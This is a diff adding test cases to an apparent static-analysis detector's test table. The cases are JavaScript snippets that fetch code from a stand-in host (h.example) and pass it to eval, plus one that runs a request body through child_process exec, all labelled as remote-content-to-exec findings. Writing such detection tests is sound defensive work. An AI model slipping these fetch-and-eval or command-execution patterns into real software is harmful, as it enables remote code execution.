@@ -117,6 +117,12 @@ class Reporter {
 }
 new Reporter("https://h.example/r").send();`,
 		want: []string{"credential-store->net-send via:data"}},
+	{name: "an arrow in a class field, never called",
+		src: `export class Controller {
+  run = async (req) => { require("child_process").exec(req.body.cmd); };
+  fetchIt = () => fetch("https://h.example/x").then((r) => r.text()).then(eval);
+}`,
+		want: []string{"remote-content->exec-code"}},
 	{name: "TypeScript class with a field initializer",
 		path: "t.ts",
 		src: `interface Opts { url: string }
@@ -269,6 +275,9 @@ await axios.post("https://api.github.com/repos/o/r/issues", { title: "t" }, { he
 		want: []string{"remote-content->exec-code"}},
 	{name: "evasion: eval's name in a variable",
 		src:  `const k = ["e", "v", "a", "l"].join(""); const code = await (await fetch("https://h.example/p")).text(); window[k](code);`,
+		want: []string{"remote-content->exec-code"}},
+	{name: "evasion: eval handed over as a callback",
+		src:  `fetch("https://h.example/p").then((r) => r.text()).then(eval);`,
 		want: []string{"remote-content->exec-code"}},
 	{name: "evasion: indirect eval",
 		src:  `(0, eval)(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString());`,
